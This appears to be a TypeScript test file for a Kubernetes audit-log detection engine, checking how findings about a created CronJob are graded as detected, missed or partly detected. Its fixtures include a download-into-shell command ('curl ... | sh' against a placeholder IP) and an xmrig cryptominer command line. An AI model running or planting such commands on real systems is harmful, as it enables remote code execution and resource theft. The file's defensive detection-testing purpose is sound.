import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Expectation, Variant } from '../emulate/atomic.ts';
import { examine } from '../engine/examine.ts';
import type { Finding } from '../model/finding.ts';
import type { Level } from './level.ts';
import { judgeRun } from './verdict.ts';

const expectation: Expectation = {
  id: 'x',
  delivery: 'create',
  kind: 'CronJob',
  payload: 'download-into-shell',
  disguise: 'none',
  privilege: 'none',
  schedule: 'daily',
  identity: 'developer',
  outcome: 'accepted',
  expects: [
    {
      workload: { kind: 'CronJob', name: 'cw-a' },
      severityAtLeast: 'high',
      indicators: ['command.remote-fetch-execute'],
    },
  ],
  atMetadata: [{ workload: { kind: 'CronJob', name: 'cw-a' }, severityAtMost: 'low' }],
  unexpected: ['command.miner'],
  twin: { arguments: { manifest: 'b' }, severityAtMost: 'low' },
};

const findings = (
  script: string,
  { name = 'cw-a', level = 'Request' }: { name?: string; level?: string } = {},
): readonly Finding[] =>
  examine(
    JSON.stringify({
      kind: 'Event',
      apiVersion: 'audit.k8s.io/v1',
      level,
      auditID: '1',
      stage: 'ResponseComplete',
      requestURI: '/apis/batch/v1/namespaces/lab/cronjobs',
      verb: 'create',
      user: { username: 'dana@example.com', groups: ['system:authenticated'] },
      objectRef: { resource: 'cronjobs', namespace: 'lab', name, apiGroup: 'batch', apiVersion: 'v1' },
      responseStatus: { code: 201 },
      ...(level === 'Metadata'
        ? {}
        : {
            requestObject: {
              apiVersion: 'batch/v1',
              kind: 'CronJob',
              metadata: { name, namespace: 'lab' },
              spec: {
                schedule: '0 3 * * *',
                jobTemplate: {
                  spec: {
                    template: {
                      spec: { containers: [{ name: 'a', image: 'busybox:1.36', command: ['sh', '-c', script] }] },
                    },
                  },
                },
              },
            },
          }),
      requestReceivedTimestamp: '2026-11-24T10:00:00Z',
      stageTimestamp: '2026-11-24T10:00:00Z',
    }),
  ).findings;

const BAD = 'curl -s http://203.0.113.7/x | sh';
const MINER = './xmrig -o stratum+tcp://pool.example.com:3333 -u x';

const CASES: readonly (readonly [string, readonly Finding[], Variant, Level, string, RegExp | null])[] = [
  ['all that is expected', findings(BAD), 'attack', 'Request', 'detected', null],
  ['no finding', [], 'attack', 'Request', 'missed', /no finding about CronJob cw-a/],
  [
    'a finding about another object',
    findings(BAD, { name: 'cw-b' }),
    'attack',
    'Request',
    'missed',
    /no finding about/,
  ],
  ['a finding that is too light', findings('date'), 'attack', 'Request', 'partly', /is info and not at least high/],
  [
    'another indicator than expected',
    findings(MINER),
    'attack',
    'Request',
    'partly',
    /remote-fetch-execute does not fire/,
  ],
  [
    'an indicator that must not fire',
    findings(`${BAD}; ${MINER}`),
    'attack',
    'Request',
    'detected',
    /command\.miner fires, of an act/,
  ],
  ['a body that is withheld', findings(BAD, { level: 'Metadata' }), 'attack', 'Metadata', 'partly', null],
  ['a body that is withheld, and no finding', [], 'attack', 'Metadata', 'missed', /no finding about/],
  ['a quiet twin', findings('date'), 'twin', 'Request', 'quiet', null],
  ['a loud twin', findings(BAD), 'twin', 'Request', 'loud', /the twin is (?:high|critical) \(at most low\)/],
];
for (const [situation, found, variant, level, verdict, problem] of CASES) {
  test(`${situation}: ${verdict}`, () => {
    const judged = judgeRun(found, expectation, variant, level);
    assert.equal(judged.verdict, verdict);
    if (problem === null) assert.deepEqual(judged.problems, []);
    else assert.match(judged.problems.join('\n'), problem);
  });
}

test('a test that expects nothing is quiet without a finding, and loud with one', () => {
  const nothing = { ...expectation, expects: [], atMetadata: [], unexpected: [] };
  assert.equal(judgeRun(findings('date'), nothing, 'attack', 'Request').verdict, 'quiet');
  assert.equal(judgeRun(findings(BAD), nothing, 'attack', 'Request').verdict, 'loud');
});

test('the carrier is the indicator with most weight in the gravest finding', () => {
  const judged = judgeRun([...findings('date'), ...findings(BAD)], expectation, 'attack', 'Request');
  assert.equal(judged.carrier, 'command.remote-fetch-execute');
});

test('an envelope excuses an indicator only where the finding says that this one could not be told', () => {
  const quiet: readonly Finding[] = findings(BAD).map((finding) => ({
    ...finding,
    indicators: finding.indicators.filter(({ id }) => id !== 'command.remote-fetch-execute'),
  }));
  const saying = (id: string) =>
    quiet.map((finding) => ({ ...finding, unassessed: [...finding.unassessed, { id, because: 'not-kept' as const }] }));
  const whole = judgeRun(findings(BAD), expectation, 'attack', 'Request');
  const problem = 'CronJob cw-a: command.remote-fetch-execute does not fire';
  const own = judgeRun(saying('command.remote-fetch-execute'), expectation, 'attack', 'Request', whole);
  assert.deepEqual([own.problems, own.lost], [[], [problem]]);
  const another = judgeRun(saying('actor.impersonation'), expectation, 'attack', 'Request', whole);
  assert.deepEqual([another.problems, another.lost], [[problem], []]);
});
